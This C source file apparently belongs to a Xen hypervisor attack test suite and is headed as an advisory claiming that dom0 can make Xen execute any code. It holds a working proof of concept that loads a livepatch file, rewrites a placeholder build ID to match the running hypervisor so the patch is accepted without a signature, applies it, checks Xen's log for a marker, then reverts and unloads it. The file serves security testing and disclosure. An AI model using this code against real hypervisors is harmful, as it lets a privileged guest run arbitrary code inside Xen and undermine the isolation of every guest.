/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: dom0's code in the hypervisor
 *
 * Claim:  dom0 has Xen execute any code.
 * Method: XEN_SYSCTL_livepatch_op: a patch (../payload) that says so in Xen's
 *         log when it is applied; then it is taken back.
 * Stock:  there is no signature: what fits is executed.
 */
#include <stdio.h>
#include <string.h>

#include "../attack.h"

#include <xen/version.h>

#define PAYLOAD "/files/payload.lp"
#define MAX (256u << 10)
#define BUILD_ID 20
#define NS 1000000000u

/* What Xen a patch is for stands in it, and is compared: nothing else is. */
static void make_fit(uint8_t *payload, size_t size)
{
    static const uint8_t placeholder[BUILD_ID] = {3, [1 ... 19] = 0x5c};
    struct
    {
        uint32_t size;
        uint8_t id[BUILD_ID];
    } xen = {.size = BUILD_ID};
    uint8_t *at;

    if ( hypercall_2(__HYPERVISOR_xen_version, XENVER_build_id, &xen,
                     sizeof(xen)) != BUILD_ID )
        return;
    while ( (at = memmem(payload, size, placeholder, BUILD_ID)) )
        memcpy(at, xen.id, BUILD_ID);
}

static enum verdict livepatch(struct victim *v)
{
    static uint8_t payload[MAX];
    static char name[] = "attack";
    unsigned int from = log_end();
    FILE *f = fopen(PAYLOAD, "r");
    size_t size = f ? fread(payload, 1, MAX, f) : 0;
    int uploaded, applied;

    (void)v;
    if ( !size )
        return verdict(ERROR, "no payload");
    fclose(f);
    make_fit(payload, size);
    uploaded = xc_livepatch_upload(xch, name, payload, size, false);
    msleep(500);
    applied = uploaded ? -1 : xc_livepatch_apply(xch, name, NS, 0);
    msleep(500);
    if ( !uploaded )
    {
        xc_livepatch_revert(xch, name, NS, 0);
        msleep(500);
        xc_livepatch_unload(xch, name, NS, 0);
    }
    return verdict(
        log_count(from, "attack: dom0's code runs in Xen") ? SUCCESS : FAILURE,
        "upload %d, apply %d", uploaded, applied);
}
ATTACK(livepatch, .needs = NO_VICTIM, .last = true);
